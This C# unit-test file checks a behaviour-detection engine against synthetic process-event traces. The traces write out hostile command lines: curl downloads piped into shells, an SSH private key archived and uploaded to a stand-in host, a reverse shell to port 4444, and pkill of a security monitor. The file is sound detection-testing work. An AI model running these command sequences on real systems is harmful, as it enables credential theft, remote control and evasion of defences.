using Wellguard.AttackTrees;
using Wellguard.Events;
using Wellguard.Reports;
using Wellguard.Signals;
using Xunit;

namespace Wellguard.Tests.Signals.Behavior;

/// <summary>Who started whom, what came from where: on lists of events as in examples of rules.</summary>
public sealed class ActivityTests
{
    private const string Downloaded = "behavior/runs-what-it-downloaded";

    private const string Start = "- {kind: start, process: 1, object: /bin/sh, line: sh /start}\n";
    private const string Curl = """
        - {kind: fork, process: 1, child: 2}
        - {kind: exec, process: 2, object: /usr/bin/curl, line: curl -s http://a.example/x, result: 0}
        - {kind: resolve, object: a.example, other: 198.18.0.4}
        - {kind: connect, process: 2, object: "198.18.0.4:80", result: -115}
        - {kind: download, object: "http://a.example/x", other: script, size: 9}

        """;

    private static Report Judge(string events) =>
        Observed.Judge(new(Wellguard.Artifacts.ArtifactKind.Image, "x"), EventExample.Read("t.yml", "events:\n" + string.Concat(events.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => "  " + line + "\n"))), [], false, Wellguard.Verdicts.Policy.Default, new(2026, 1, 1));

    private static bool Says(Report report, string rule) => report.Signals.Any(signal => signal.Rule == rule);

    /// <summary>The way from the root to the node, as labels.</summary>
    private static List<string> WayTo(AttackTree tree, Func<Node, bool> wanted)
    {
        var way = new List<string>();
        for (var at = tree.Nodes.First(wanted); ; at = tree.Nodes.First(node => node.Id == tree.Edges.First(edge => edge.To == at.Id).From))
        {
            way.Insert(0, at.Label);
            if (tree.Edges.All(edge => edge.To != at.Id))
            {
                return way;
            }
        }
    }

    [Theory]
    [InlineData("- {kind: write, process: 2, object: /tmp/x, result: 3}\n", "", "curl opened it after the bytes came")]
    [InlineData("", "- {kind: write, process: 2, object: /tmp/x, result: 3}\n", "the shell opened it before curl ran")]
    public void What_is_written_by_who_downloads_is_downloaded(string after, string before, string why)
    {
        var report = Judge(Start + Curl.Replace("- {kind: exec, process: 2", before + "- {kind: exec, process: 2", StringComparison.Ordinal) + after
            + "- {kind: fork, process: 1, child: 3}\n- {kind: exec, process: 3, object: /tmp/x, line: /tmp/x, result: 0}");
        Assert.True(Says(report, Downloaded), why);
        Assert.Equal(["x", "sh /start", "curl -s http://a.example/x", "http://a.example/x", "/tmp/x", "/tmp/x"], WayTo(report.Tree, node => node.Kind == NodeKind.Process && node.Label == "/tmp/x"));
    }

    [Theory]
    [InlineData("sh", true)]
    [InlineData("bash -s -- a", true)]
    [InlineData("python3 -", true)]
    [InlineData("python3 -m json.tool", false)]
    [InlineData("sh -c cat", false)]
    [InlineData("jq .", false)]
    public void A_pipe_into_an_interpreter_runs_what_was_downloaded(string reader, bool runs)
    {
        var program = "/usr/bin/" + reader.Split(' ')[0];
        var report = Judge(Start + "- {kind: fork, process: 1, child: 3}\n- {kind: read, process: 3, object: 'pipe:[9]', other: '0', result: 0}\n- {kind: exec, process: 3, object: " + program + ", line: '" + reader + "', result: 0}\n"
            + Curl.Replace("- {kind: exec, process: 2", "- {kind: write, process: 2, object: 'pipe:[9]', other: '1', result: 1}\n- {kind: exec, process: 2", StringComparison.Ordinal));
        Assert.Equal(runs, Says(report, Downloaded));
    }

    [Theory]
    [InlineData("perl -ne print /tmp/x", false)]
    [InlineData("perl /tmp/x", true)]
    [InlineData("bash -x /tmp/x a", true)]
    [InlineData("sh -c true /tmp/x", false)]
    public void An_interpreter_runs_its_operand_and_reads_its_data(string line, bool runs)
    {
        var report = Judge(Start + Curl.Replace("other: script", "other: json", StringComparison.Ordinal) + "- {kind: write, process: 2, object: /tmp/x, result: 3}\n- {kind: fork, process: 1, child: 3}\n- {kind: exec, process: 3, object: /usr/bin/"
            + line.Split(' ')[0] + ", line: '" + line + "', result: 0}\n- {kind: read, process: 3, object: /tmp/x, result: 3}");
        Assert.Equal(runs, Says(report, Downloaded));
    }

    [Fact]
    public void A_package_manager_fetches_packages()
    {
        var report = Judge(Start + Curl.Replace("/usr/bin/curl", "/usr/bin/apt-get", StringComparison.Ordinal).Replace("curl -s", "apt-get update", StringComparison.Ordinal)
            + "- {kind: write, process: 2, object: /etc/cron.d/x, result: 3}\n- {kind: fork, process: 1, child: 3}\n- {kind: exec, process: 3, object: /etc/cron.d/x, line: x, result: 0}");
        Assert.Equal(Wellguard.Verdicts.Level.Clean, report.Verdict.Level);
    }

    [Fact]
    public void A_file_of_the_run_with_the_name_of_a_package_manager_is_none()
    {
        var report = Judge(Start + "- {kind: write, process: 1, object: /usr/bin/apt-get, result: 3}\n" + Curl.Replace("/usr/bin/curl", "/usr/bin/apt-get", StringComparison.Ordinal) + "- {kind: write, process: 2, object: /etc/ld.so.preload, result: 3}");
        Assert.True(Says(report, "behavior/preloads-library"));
    }

    [Fact]
    public void What_untrusted_code_starts_is_untrusted()
    {
        var report = Judge(Start + Curl + "- {kind: write, process: 2, object: /tmp/x, result: 3}\n- {kind: fork, process: 1, child: 3}\n- {kind: exec, process: 3, object: /tmp/x, line: /tmp/x, result: 0}\n"
            + "- {kind: fork, process: 3, child: 4}\n- {kind: exec, process: 4, object: /usr/bin/env, line: env, result: 0}\n- {kind: fork, process: 4, child: 5}\n- {kind: exec, process: 5, object: /usr/bin/pkill, line: pkill falco, result: 0}");
        Assert.True(Says(report, "behavior/stops-defences"));
    }

    [Fact]
    public void A_loss_is_told_and_the_report_is_partial()
    {
        var report = Judge(Start + "- {kind: lost, size: 7}");
        Assert.Equal(7, report.Tree.LostEvents);
        Assert.Equal(Wellguard.Artifacts.CompletenessState.Partial, report.Completeness.State);
    }

    [Fact]
    public void A_tree_has_fifty_nodes_at_most_and_keeps_the_only_one_with_a_technique()
    {
        var many = string.Concat(Enumerable.Range(2, 400).Select(index => $"- {{kind: fork, process: 1, child: {index}}}\n- {{kind: exec, process: {index}, object: /opt/p{index}, line: p{index}, result: 0}}\n- {{kind: write, process: {index}, object: /home/u{index}/.ssh/authorized_keys, result: 3}}\n"));
        var report = Judge(Start + many + "- {kind: kernel, process: 1, object: memfd_create, line: 0x1}");
        Assert.InRange(report.Tree.Nodes.Count, 10, 50);
        Assert.Contains(report.Tree.Nodes, node => node.Attack.Contains("T1620"));
    }

    [Fact]
    public void Hostile_histories_end()
    {
        var circle = string.Concat(Enumerable.Range(0, 300).Select(index => $"- {{kind: rename, process: 1, object: /a{index % 3}, other: /a{(index + 1) % 3}, result: 0}}\n- {{kind: fork, process: {index}, child: {(index + 1) % 7}}}\n- {{kind: exec, process: {index % 7}, object: /a{index % 3}, line: a, result: 0}}\n"));
        Assert.NotNull(Judge(Start + Curl + "- {kind: write, process: 2, object: /a0, result: 3}\n" + circle).Tree);
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void Credentials_are_followed_through_files_pipes_and_children(bool pipeFirst)
    {
        const string Read = "- {kind: read, process: 3, object: /tmp/loot, result: 3}\n";
        var flow = """
            - {kind: fork, process: 1, child: 2}
            - {kind: exec, process: 2, object: /usr/bin/python3, line: python3 a.py, result: 0}
            - {kind: write, process: 2, object: /tmp/loot, result: 3}
            - {kind: read, process: 2, object: /root/.ssh/id_rsa, result: 4}
            - {kind: fork, process: 2, child: 3}
            - {kind: exec, process: 3, object: /usr/bin/tar, line: tar czf /tmp/b.tgz /tmp/loot, result: 0}
            - {kind: fork, process: 3, child: 4}
            - {kind: write, process: 4, object: /tmp/b.tgz, result: 3}
            - {kind: read, process: 4, object: "pipe:[9]", other: "0", result: 0}
            - {kind: exec, process: 4, object: /usr/bin/gzip, line: gzip, result: 0}
            - {kind: read, process: 3, object: /tmp/loot, result: 3}
            - {kind: fork, process: 2, child: 5}
            - {kind: exec, process: 5, object: /usr/bin/curl, line: curl -T /tmp/b.tgz https://c.example/, result: 0}
            - {kind: read, process: 5, object: /tmp/b.tgz, result: 3}
            - {kind: connect, process: 5, object: "c.example:443", result: 0}
            - {kind: request, object: "https://c.example/", line: PUT}

            """;
        if (!pipeFirst)
        {
            flow = flow.Replace(Read, "", StringComparison.Ordinal).Replace("- {kind: read, process: 4", Read + "- {kind: read, process: 4", StringComparison.Ordinal);
        }

        Assert.True(Says(Judge(Start + flow), "behavior/sends-on-credentials"));
        Assert.False(Says(Judge(Start + flow.Replace("/root/.ssh/id_rsa", "/srv/data", StringComparison.Ordinal)), "behavior/sends-on-credentials"));
    }

    [Theory]
    [InlineData("bash -i", "", true)]
    [InlineData("sh", "- {kind: write, process: 2, object: 'socket:[7]', other: '1', result: 0}\n", true)]
    [InlineData("sh run.sh", "", false)]
    public void A_shell_that_takes_its_commands_from_another_machine_is_told(string line, string output, bool told)
    {
        var report = Judge(Start + """
            - {kind: fork, process: 1, child: 2}
            - {kind: exec, process: 2, object: /usr/bin/perl, line: perl a.pl, result: 0}
            - {kind: connect, process: 2, object: "203.0.113.9:4444", line: "socket:[7]", result: 0}
            - {kind: read, process: 2, object: "socket:[7]", other: "0", result: 0}

            """ + output + "- {kind: exec, process: 2, object: /usr/bin/" + line.Split(' ')[0] + ", line: " + line + ", result: 0}\n");
        Assert.Equal(told, Says(report, "behavior/opens-reverse-shell"));
    }

    [Fact]
    public void What_was_written_and_is_not_there_at_the_end_was_deleted_where_the_end_is_known()
    {
        const string Written = "- {kind: fork, process: 1, child: 2}\n- {kind: exec, process: 2, object: /usr/bin/x, line: x, result: 0}\n- {kind: write, process: 2, object: /var/a.so, result: 3}\n";
        Assert.False(Says(Judge(Start + Written), "behavior/deletes-what-it-downloaded"));
        Assert.True(Says(Judge(Start + Written + "- {kind: change, object: /, other: '755'}\n"), "behavior/deletes-what-it-downloaded"));
        Assert.False(Says(Judge(Start + Written + "- {kind: change, object: /var/a.so, other: '644', digest: aa}\n- {kind: change, object: /, other: '755'}\n"), "behavior/deletes-what-it-downloaded"));
    }
}
